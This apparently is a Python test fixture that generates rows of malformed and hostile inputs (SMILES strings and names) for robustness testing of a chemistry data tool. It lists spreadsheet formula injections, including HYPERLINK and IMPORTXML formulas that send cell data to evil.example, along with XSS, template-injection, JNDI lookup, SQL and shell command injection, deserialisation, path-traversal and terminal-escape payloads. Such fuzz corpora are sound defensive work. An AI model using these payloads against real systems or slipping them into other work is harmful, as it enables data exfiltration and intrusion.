"""Rows that somebody might send by mistake or on purpose: a corpus, and combinations of it."""

from __future__ import annotations

import random
from collections.abc import Iterator

FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "|calc",
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    "\"=1+1\"",
    "'=1+1",
)  # fmt: skip
PAGES = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=file:///etc/passwd></iframe>",
    "<style>*{background:url(http://evil.example)}</style>",
    "<!--", "]]>", "&lt;script&gt;", "&#60;script&#62;",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}",
    "${jndi:ldap://evil.example/a}", "<%= 7 * 7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ＳＣＲＩＰＴ>alert(1)</ＳＣＲＩＰＴ>",
    "[red]markup[/red] [link=file:///etc/passwd]x[/link]",
)  # fmt: skip
TERMINALS = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b31mred", "\x1b[8mhidden",
    "a\x08\x08b", "a\rb", "\u202eabc", "\u2066x\u2069", "\x00", "\x7f", "\x85", "\u2028", "\x1bc",
)  # fmt: skip
PATHS = (
    "../../../outside", "/outside", "..\\..\\outside", "C:\\outside", "file:///outside",
    "~/outside",
    "a/../../outside", "CON", "outside\x00.txt", "%2e%2e%2foutside", "-rf", "--help", ".", "..",
    "/",
    "x" * 300 + "/y",
)  # fmt: skip
PROGRAMS = (
    "'; DROP TABLE results; --", "\" OR \"\"=\"", "`touch outside`", "$(touch outside)",
    "; touch outside", "| touch outside", "&& touch outside", "__import__('os').mkdir('outside')",
    "!!python/object/apply:os.mkdir ['outside']", "cos\nmkdir\n(S'outside'\ntR.",
    "%s%s%s%n", "{0.__class__}", "{}", "%(x)s", "\\", "\\x41", "\"", "'", "\"\"\"", "\n", "\r\n",
)  # fmt: skip
TEXTS = (
    "", " ", "\t", "NaN", "nan", "inf", "-inf", "1e999", "-5", "1,5", "None", "null", "true",
    "0x10",
    "ünïcödé", "水", "💊", "e\u0301", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "a" * 5000, "a b  c", "$$$$", "M  END", ">  <name>", "> <x>\n1\n\n$$$$", "name", "smiles",
    "\ufeff", "x\u00adx", "ﬃ", "1" * 400,
)  # fmt: skip
NAMES = (*FORMULAS, *PAGES, *TERMINALS, *PATHS, *PROGRAMS, *TEXTS)

SOUND = (
    "CCO", "C=CC(N)=O", "c1ccccc1", "CC(=O)Oc1ccccc1C(=O)O", "C=CC(=O)Nc1ccccc1", "CN", "C#CCN",
    "O=C1CCCN1", "FC(F)(F)c1ccncc1", "C[C@H](N)C(=O)O", "C/C=C/C", "[Na+].CC(=O)[O-]", "N#CC=C",
    "OCC", "C1CC1", "CS(=O)(=O)C=C", "Clc1ccccc1", "[13CH3]O", "C[N+](C)(C)C.[Cl-]",
)  # fmt: skip
BROKEN = (
    "", "C1CC", "CC(", "C)", "C(C", "c1ccccc", "[C", "C]", "C==C", "C%", "C%1", "C%99",
    "[C:9999999999]",
    "[C+99]", "[999C]", "[Uuu]", "[Xx]", "*", "[*:1]C", "C>>C", "C>", ">>", "C.C.C.C", ".", "..C",
    "[H+]",
    "[He]", "[U]", "[CH3]", "[CH2]", "C[Hg]C", "[Fe]", "C(C)(C)(C)(C)C", "N(C)(C)(C)C", "c1cccc1",
    "C@C",
    "[C@@@@H](C)N", "C/C=C\\", "F/C=C/F/", "C" * 300, "C(" * 400, "(" * 400, "[" * 400, "C1" * 100,
    "C" * 20000, "c1" * 2000, "C=" * 500, "[nH]" * 60, "%(10)", "C%(100)", "~C", "C~C", "C$C",
    "C:C",
    "InChI=1S/CH4/h1H4", "CCO ethanol", "CCO\tethanol", "C C", "C\x00C", "C\x1b[2J", "Ｃ", "CСC",
    "水",
    "[#6]", "[C,N]", "[!C]", "[R]", "[$(C)]", "C&C", "C;C", "{C}", "C{-}", "|$x$|", "CC |^1:0|",
    "CC |$=1+1$|", "<script>alert(1)</script>", "=1+1", "../../outside", "CCO; touch outside",
    "1" * 50, "-", "--", "#", "\"CCO\"", "'CCO'", "C\"C", "CC\\", "nan", "None", "[\x85]",
    "C\u202eC",
    "C1%11%12%13CC", "[2H]C([2H])", "[Ts]", "[Rn]", "[C-]#[O+]", "[O][O]", "[Si](F)(F)(F)(F)(F)F",
)  # fmt: skip
MOLECULES = (*SOUND, *BROKEN)


def rows(count: int, seed: int = 7) -> Iterator[tuple[str, str]]:
    """SMILES and name of so many rows, every one of the corpus in the first of them.

    Args:
        count: of rows, 300 at least.
        seed: of the combinations.
    """
    chance = random.Random(seed)
    for number in range(count):
        if number < len(NAMES):
            yield SOUND[number % len(SOUND)], NAMES[number]
        elif number < len(NAMES) + len(MOLECULES):
            yield MOLECULES[number - len(NAMES)], f"molecule {number}"
        else:
            yield _mixed(chance), chance.choice(NAMES) + chance.choice(NAMES)[:60]


def _mixed(chance: random.Random) -> str:
    """A molecule of two, or one of the corpus with a character changed."""
    kind = chance.random()
    if kind < 0.3:
        return chance.choice(SOUND) + chance.choice(SOUND)
    text = chance.choice(MOLECULES)[:200]
    if kind < 0.6 or not text:
        return text
    place = chance.randrange(len(text))
    return (
        text[:place] + chance.choice("CNOcn()[]=#123%.@/\\+-*<>\"',;\t \x01é") + text[place + 1 :]
    )
